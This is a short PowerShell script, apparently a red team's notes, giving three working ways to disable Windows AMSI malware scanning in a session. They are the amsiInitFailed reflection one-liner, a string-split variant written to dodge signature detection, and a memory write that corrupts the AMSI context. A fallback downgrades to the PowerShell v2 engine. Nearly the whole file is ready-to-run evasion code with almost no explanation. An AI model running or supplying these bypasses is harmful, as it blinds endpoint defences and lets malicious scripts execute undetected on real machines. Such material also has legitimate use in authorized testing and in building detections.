# Three ways the red team knocked out AMSI in the current session.

# 1. classic one-liner
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)

# 2. same thing with the type name split so the literal never appears
$a = 'System.Management.Automation.A'
$b = 'msiUt' + 'ils'
$t = [Ref].Assembly.GetType($a + $b)
$f = $t.GetField('amsi' + 'Init' + 'Failed', 'NonPublic,Static')
$f.SetValue($null, $true)

# 3. null out the context instead of flipping the flag
$utils = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*iUtils' }
$ctx = $utils.GetFields('NonPublic,Static') | Where-Object { $_.Name -like '*Context' }
[IntPtr]$ptr = $ctx.GetValue($null)
[Runtime.InteropServices.Marshal]::WriteInt32($ptr, 0x41414141)

# fallback: drop to the v2 engine, which has no AMSI at all
powershell.exe -Version 2 -NoProfile -Command "Get-Process | Out-Null"
